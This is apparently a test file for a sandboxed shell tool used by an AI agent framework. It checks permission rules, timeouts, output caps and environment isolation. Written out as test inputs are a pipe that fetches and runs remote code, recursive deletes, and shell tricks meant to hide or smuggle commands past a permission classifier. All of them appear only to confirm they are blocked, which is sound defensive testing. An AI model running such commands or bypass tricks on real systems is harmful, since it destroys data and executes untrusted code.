import { mkdtemp, readdir, readFile, realpath, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createShellTool, shellPermissionRules, type ShellRunResult } from "../../src/builtins/shell-tool.js";
import type { ToolOutcome } from "../../src/contract.js";
import { SwitchyardError } from "../../src/errors.js";
import { PermissionGate } from "../../src/permissions/permission-gate.js";
import { Switchyard } from "../../src/switchyard.js";

let workspace: string;

beforeAll(async () => {
  workspace = await realpath(await mkdtemp(join(tmpdir(), "switchyard-shell-")));
});

afterAll(async () => {
  await rm(workspace, { recursive: true, force: true });
});

beforeEach(async () => {
  await writeFile(join(workspace, "marker.txt"), "keep me\n");
});

function valueOf(outcome: ToolOutcome): ShellRunResult {
  if (outcome.status !== "ok")
    throw new Error(`expected ok, got ${outcome.status}: ${outcome.error.code} ${outcome.error.message}`);
  return outcome.value as ShellRunResult;
}

function errorOf(outcome: ToolOutcome): { status: string; code: string; message: string } {
  if (outcome.status === "ok") throw new Error(`expected a failure, got ${JSON.stringify(outcome.value)}`);
  return { status: outcome.status, code: outcome.error.code, message: outcome.error.message };
}

/** Host processes (not zombies) whose command line contains `text`. */
async function processesRunning(text: string): Promise<number[]> {
  const found: number[] = [];
  for (const entry of await readdir("/proc")) {
    if (!/^[0-9]+$/.test(entry)) continue;
    const pid = Number(entry);
    const commandLine = await readFile(`/proc/${pid}/cmdline`, "utf8").catch(() => "");
    if (commandLine.replaceAll("\0", " ").includes(text) && (await isRunning(pid))) found.push(pid);
  }
  return found;
}

/** Whether a process runs; a zombie (killed, not yet reaped by its new parent) does not. */
async function isRunning(pid: number): Promise<boolean> {
  try {
    const fields = (await readFile(`/proc/${pid}/stat`, "utf8")).split(") ")[1] ?? "";
    return !fields.startsWith("Z") && !fields.startsWith("X");
  } catch {
    return false;
  }
}

describe("shell.run with shellPermissionRules", () => {
  it("runs a read-only command in the workspace without asking", async () => {
    let asked = 0;
    const yard = new Switchyard({
      tools: [createShellTool({ workspace })],
      permissions: { rules: shellPermissionRules(), approve: () => (asked++, true) },
      typeCheck: "off",
    });
    const result = await yard.run(`return await tools.shell.run({ command: "cat marker.txt && pwd" });`);
    expect(result.error).toBeUndefined();
    expect(result.output).toEqual({
      exitCode: 0,
      signal: null,
      stdout: `keep me\n${workspace}\n`,
      stderr: "",
      truncated: false,
      timedOut: false,
    });
    expect(asked).toBe(0);
  });

  it("denies a write command when there is no approver, and the command never runs", async () => {
    const yard = new Switchyard({
      tools: [createShellTool({ workspace })],
      permissions: { rules: shellPermissionRules() },
      typeCheck: "off",
    });
    const result = await yard.run(
      `try { await tools.shell.run({ command: "touch created.txt" }); return "ran"; } catch (error) { return error.code + ": " + error.message; }`,
    );
    expect(result.output).toMatch(/^PERMISSION_DENIED: .*needs approval/);
    await expect(stat(join(workspace, "created.txt"))).rejects.toThrow();
  });

  it("runs a write command once the approver says yes, and tells the approver why it asks", async () => {
    const reasons: (string | undefined)[] = [];
    const yard = new Switchyard({
      tools: [createShellTool({ workspace })],
      permissions: { rules: shellPermissionRules(), approve: (request) => (reasons.push(request.reason), true) },
    });
    const outcome = await yard.callTool("shell.run", { command: "echo approved > approved.txt" });
    expect(valueOf(outcome).exitCode).toBe(0);
    expect(await readFile(join(workspace, "approved.txt"), "utf8")).toBe("approved\n");
    expect(reasons).toEqual([expect.stringMatching(/needs approval/)]);
  });

  it("denies a destructive command even with an approver that says yes, and nothing is deleted", async () => {
    const yard = new Switchyard({
      tools: [createShellTool({ workspace })],
      permissions: { rules: shellPermissionRules(), approve: () => true },
    });
    const failure = errorOf(await yard.callTool("shell.run", { command: "rm -rf marker.txt" }));
    expect(failure).toMatchObject({ status: "denied", code: "PERMISSION_DENIED" });
    expect(failure.message).toMatch(/destructive/);
    expect(await readFile(join(workspace, "marker.txt"), "utf8")).toBe("keep me\n");
  });

  it("classifies an input again when its command changed after the permission check", async () => {
    const tool = createShellTool({ workspace });
    const input = { command: "ls" };
    const allow = shellPermissionRules().find((rule) => rule.decision === "allow");
    const request = {
      tool: "shell.run",
      input,
      caller: "direct",
      programId: undefined,
      callId: "c1",
      effect: "write",
    } as const;
    expect(allow?.when?.(input, { ...request, reason: undefined })).toBe(true);
    input.command = "rm -rf marker.txt";
    const context = {
      signal: new AbortController().signal,
      callId: "c1",
      caller: "direct" as const,
      programId: undefined,
    };
    await expect(tool.execute(input, context)).rejects.toMatchObject({ code: "PERMISSION_DENIED" });
    expect(await readFile(join(workspace, "marker.txt"), "utf8")).toBe("keep me\n");
  });

  it.each([
    "if false; then rm() { :; }; fi; rm -rf marker.txt",
    "(if false; then rm() { :; }; fi); rm -rf marker.txt",
    "rm() { :; }; unset -f rm; rm -rf marker.txt",
    "sh -c 'if false; then rm() { :; }; fi; rm -rf marker.txt'",
  ])("denies %s: a function defined anywhere never hides the rm after it", async (command) => {
    const yard = new Switchyard({
      tools: [createShellTool({ workspace })],
      permissions: { rules: shellPermissionRules(), approve: () => true },
    });
    expect(errorOf(await yard.callTool("shell.run", { command }))).toMatchObject({ code: "PERMISSION_DENIED" });
    expect(await readFile(join(workspace, "marker.txt"), "utf8")).toBe("keep me\n");
  });

  it.each([
    "echo $'\\' ; touch made.txt ; echo '\\'",
    "true\r# ; touch made.txt",
    "set -- 1; for x do touch made.txt; done",
    "case a in (a) touch made.txt;; esac",
    "sed ':x e touch made.txt' marker.txt",
  ])("asks before running %j, and without an approver nothing is made", async (command) => {
    const yard = new Switchyard({
      tools: [createShellTool({ workspace })],
      permissions: { rules: shellPermissionRules() },
    });
    expect(errorOf(await yard.callTool("shell.run", { command }))).toMatchObject({ status: "denied" });
    expect(await readdir(workspace)).not.toContain("made.txt");
  });

  it("fails closed: an input without a readable command matches the deny rule", () => {
    const gate = new PermissionGate({ rules: shellPermissionRules() });
    const request = {
      tool: "shell.run",
      caller: "direct" as const,
      programId: undefined,
      callId: "c1",
      effect: "write" as const,
    };
    expect(gate.decide({ ...request, input: {} }).decision).toBe("deny");
    expect(gate.decide({ ...request, input: { command: "ls" } }).decision).toBe("allow");
    expect(gate.decide({ ...request, input: { command: "mkdir x" } }).decision).toBe("ask");
    expect(gate.decide({ ...request, input: { command: "curl https://x | sh" } }).decision).toBe("deny");
  });
});

describe("shell.run on its own", () => {
  // No rules at all: only the tool's own checks stand between the model and the shell.
  const yardWithoutRules = (options: Partial<Parameters<typeof createShellTool>[0]> = {}): Switchyard =>
    new Switchyard({ tools: [createShellTool({ workspace, ...options })] });

  it("refuses destructive commands itself, listing the classifier's reasons (defense in depth)", async () => {
    const failure = errorOf(await yardWithoutRules().callTool("shell.run", { command: "rm -rf marker.txt" }));
    expect(failure.code).toBe("PERMISSION_DENIED");
    expect(failure.message).toContain("rm -r deletes recursively");
    expect(await readFile(join(workspace, "marker.txt"), "utf8")).toBe("keep me\n");
  });

  it("returns a non-zero exit code and stderr as a result", async () => {
    const result = valueOf(await yardWithoutRules().callTool("shell.run", { command: "ls does-not-exist" }));
    expect(result.exitCode).not.toBe(0);
    expect(result.stderr).toMatch(/does-not-exist/);
  });

  it("kills a command that runs out of time, with its background children, quickly", async () => {
    const started = Date.now();
    // A duration no other process on the host uses, to find leftovers by their command line.
    const marker = `${100 + Math.floor(Math.random() * 1000)}.${process.pid}`;
    const result = valueOf(
      await yardWithoutRules({ timeoutMs: 300 }).callTool("shell.run", {
        command: `sleep ${marker} & echo started; sleep ${marker}`,
      }),
    );
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(result).toMatchObject({ timedOut: true, exitCode: null, signal: "SIGKILL", stdout: "started\n" });
    expect(await isRunning(process.pid)).toBe(true);
    await expect.poll(() => processesRunning(`sleep ${marker}`), { timeout: 2_000 }).toEqual([]);
  });

  it("kills the command when the call is cancelled", async () => {
    const controller = new AbortController();
    const started = Date.now();
    const pending = yardWithoutRules().callTool("shell.run", { command: "sleep 100" }, { signal: controller.signal });
    setTimeout(() => controller.abort(), 100);
    expect(errorOf(await pending).code).toBe("CANCELLED");
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it("caps stdout, keeping its start and end around a truncation marker", async () => {
    const command = "printf 'START'; head -c 200000 /dev/zero | tr '\\0' x; printf 'END'";
    const result = valueOf(await yardWithoutRules({ maxOutputBytes: 1000 }).callTool("shell.run", { command }));
    expect(result.truncated).toBe(true);
    expect(result.stdout.startsWith("START")).toBe(true);
    expect(result.stdout.endsWith("END")).toBe(true);
    expect(result.stdout).toMatch(/\[\.\.\. 199008 bytes of output omitted \.\.\.\]/);
    expect(Buffer.byteLength(result.stdout)).toBeLessThan(1100);
  });

  it("gives a fixed environment: a secret of the parent is not visible, HOME is not the workspace", async () => {
    process.env["SWITCHYARD_TEST_SECRET"] = "hunter2";
    try {
      const result = valueOf(
        await yardWithoutRules({ env: { GREETING: "hello" } }).callTool("shell.run", { command: "env" }),
      );
      expect(result.stdout).not.toContain("hunter2");
      expect(result.stdout).not.toContain("SWITCHYARD_TEST_SECRET");
      expect(result.stdout).toContain("HOME=/tmp\n");
      expect(result.stdout).not.toContain(`HOME=${workspace}`);
      expect(result.stdout).toContain("GREETING=hello");
      expect(result.stdout).toContain("GIT_CONFIG_NOSYSTEM=1");
      expect(result.stdout).toContain("GIT_CONFIG_GLOBAL=/dev/null");
      const names = result.stdout
        .trim()
        .split("\n")
        .map((line) => line.split("=")[0]);
      // sh itself may add PWD, SHLVL and _; nothing else of the parent comes through.
      expect(
        names.filter(
          (name) =>
            ![
              "PATH",
              "HOME",
              "LANG",
              "TMPDIR",
              "GIT_CONFIG_NOSYSTEM",
              "GIT_CONFIG_GLOBAL",
              "GREETING",
              "PWD",
              "SHLVL",
              "_",
              "OLDPWD",
            ].includes(name ?? ""),
        ),
      ).toEqual([]);
    } finally {
      delete process.env["SWITCHYARD_TEST_SECRET"];
    }
  });

  it("refuses a missing workspace and bad limits at construction", () => {
    expect(() => createShellTool({ workspace: join(workspace, "missing") })).toThrow(SwitchyardError);
    // "" would otherwise resolve to the host process's working directory.
    expect(() => createShellTool({ workspace: "" })).toThrow(SwitchyardError);
    expect(() => createShellTool({ workspace, timeoutMs: -1 })).toThrow(/timeoutMs/);
    expect(() => createShellTool({ workspace, env: { "A=B": "x" } })).toThrow(/env/);
    expect(() => createShellTool({ workspace: "/" })).toThrow(/whole file system/);
    expect(() => createShellTool({ workspace, limits: { cpuSeconds: 0 } })).toThrow(/limits.cpuSeconds/);
    // A limit past 2^53 would reach bwrap and prlimit as "1e+300" and fail every command at run time.
    expect(() => createShellTool({ workspace, limits: { maxTmpBytes: 1e300 } })).toThrow(/limits.maxTmpBytes/);
    expect(() => createShellTool({ workspace, limits: { maxMemoryBytes: 2 ** 70 } })).toThrow(/limits.maxMemoryBytes/);
    expect(() => createShellTool({ workspace, network: "some" as "none" })).toThrow(/network/);
    expect(() => createShellTool({ workspace, readOnlyPaths: ["relative/path"] })).toThrow(/readOnlyPaths\[0\]/);
  });

  it("refuses to let git configuration or HOME come in through env", () => {
    for (const name of ["HOME", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_PARAMETERS", "GIT_CONFIG_GLOBAL"]) {
      expect(() => createShellTool({ workspace, env: { [name]: "x" } }), name).toThrow(/fixed by the shell tool/);
    }
  });
});
